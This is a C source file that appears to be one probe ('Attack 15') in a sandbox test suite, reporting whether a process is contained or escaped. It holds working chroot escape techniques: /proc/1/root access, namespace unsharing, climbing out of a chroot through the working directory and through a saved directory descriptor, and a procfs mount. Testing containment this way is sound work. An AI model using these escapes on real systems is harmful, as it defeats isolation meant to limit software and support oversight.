/* Attack 15: chroot escapes. usage: chroot HOST_MARKER_PATH */
#include "hostile.h"

static void check(const char *tag, const char *marker) {
    char w[256];
    snprintf(w, sizeof w, "reach-host-marker-%s", tag);
    struct stat st;
    if (stat(marker, &st) == 0) out("ESCAPED %s %s", w, marker);
    else out("CONTAINED %s %s", w, en(errno));
}

static void via_proc(const char *marker) {
    /* /proc/<pid>/root and /proc/<pid>/cwd of PID 1 and ourselves. */
    const char *roots[] = {"/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/2/root"};
    for (unsigned i = 0; i < sizeof roots / sizeof *roots; i++) {
        char p[1024], w[64];
        snprintf(p, sizeof p, "%s%s", roots[i], marker);
        snprintf(w, sizeof w, "via%s", roots[i]);
        for (char *c = w; *c; c++) if (*c == '/') *c = '-';
        struct stat st;
        if (stat(p, &st) == 0) out("ESCAPED %s %s", w, p);
        else out("CONTAINED %s %s", w, en(errno));
    }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *marker = argv[1];
    uid_t uid = getuid();
    gid_t gid = getgid();
    check("start", marker);
    via_proc(marker);
    mkdir("/tmp/x", 0755);
    expect_fail("chroot-without-caps", chroot("/tmp/x"));
    int keep = open("/", O_RDONLY | O_DIRECTORY);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        out("CONTAINED unshare %s", en(errno));
    } else {
        map_self(uid, gid);
        /* The classic: chroot into a subdirectory while the cwd stays
         * outside it, then climb. */
        if (chroot("/tmp/x") < 0) out("INFO chroot %s", en(errno));
        for (int i = 0; i < 64; i++) (void)!chdir("..");
        if (chroot(".") < 0) out("INFO chroot-dot %s", en(errno));
        check("after-chroot-climb", marker);
        /* fchdir to an fd opened before the chroot. */
        if (keep >= 0 && fchdir(keep) == 0) {
            for (int i = 0; i < 64; i++) (void)!chdir("..");
            (void)!chroot(".");
            check("after-fchdir-climb", marker);
        }
        via_proc(marker);
        /* A new procfs is not allowed (no PID namespace of our own), but
         * try: it would show the host's processes if it worked. */
        mkdir("/tmp/p", 0755);
        if (syscall(SYS_mount, "proc", "/tmp/p", "proc", 0, NULL) == 0) out("INFO mounted a procfs");
        else out("INFO mount proc %s", en(errno));
    }
    DONE();
    return 0;
}
